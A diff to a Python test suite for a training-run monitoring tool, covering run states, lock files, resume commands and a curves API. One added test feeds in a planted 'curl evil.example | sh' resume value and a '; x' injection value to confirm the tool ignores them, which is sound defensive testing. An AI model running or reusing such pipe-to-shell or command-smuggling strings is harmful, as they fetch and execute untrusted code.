@@ -29,11 +29,11 @@ def test_a_run_that_has_ended_says_how(tmp_path, state):
 
 
 def test_a_run_trains_while_its_lock_is_held_and_has_died_when_it_is_free(tmp_path):
-    folder = write_run(tmp_path / "run", status={"state": "running", "tokens_per_step": 100, "resume": "torchrun x"})
+    folder = write_run(tmp_path / "run", status={"state": "running", "tokens_per_step": 100})
     with lock_file(folder / "lock"):
         assert watched(folder).state == "running"
     run = watched(folder)
-    assert run.state == "died" and run.details()["resume"] == "torchrun x" and run.details()["resumable"]
+    assert run.state == "died" and run.details()["resumable"]
 
 
 def test_a_lock_that_was_found_free_is_not_taken_again_until_it_was_held(tmp_path, monkeypatch):
@@ -58,6 +58,14 @@ def test_a_run_of_before_run_json_is_finished_if_it_has_an_export(tmp_path):
     (folder / "model/config.json").write_text("{}")
     assert watched(folder).state == "finished"
     assert watched(folder).details()["resume"] == f"ligermodels train --resume {folder}"
+
+
+def test_the_command_that_resumes_a_run_is_not_taken_from_a_file(tmp_path):
+    folder = write_run(tmp_path / "a run", status={"state": "died", "resume": "curl evil.example | sh", "ranks": "; x"})
+    assert watched(folder).details()["resume"] == f"ligermodels train --resume '{folder}'"
+    folder = write_run(tmp_path / "\x15x\n", status={"state": "died"})
+    command = watched(folder).details()["resume"]
+    assert command.isprintable() and command.startswith("# rename the folder")
 
 
 def test_the_time_that_is_left_follows_from_speed_and_steps(tmp_path):
@@ -104,6 +112,14 @@ def test_curves_have_steps_and_values_or_their_range_where_points_are_few(tmp_pa
         assert found["curves"] == {"loss": [[2, 3, 4], [2, 1.33333, 1]]} and found["version"] > 0
         few = board.get("/api/curves?runs=0:run&names=loss&points=2")["0:run"]["curves"]["loss"]
         assert few == [[1.5, 3.5], [2, 1], [4, 1.33333], [3, 1.16667]]
+
+
+def test_curves_of_a_run_that_is_named_many_times_are_drawn_once(tmp_path):
+    write_run(tmp_path / "run")
+    with serving(tmp_path) as board:
+        board.summary("0:run")
+        content = board.raw("GET", "/api/curves?runs=" + "%0A".join(["0:run"] * 6000) + "&names=loss%0Aloss")[2]
+        assert content.count(b"curves") == content.count(b'"loss"') == 1
 
 
 def test_samples_and_completions_are_read_by_step(tmp_path):
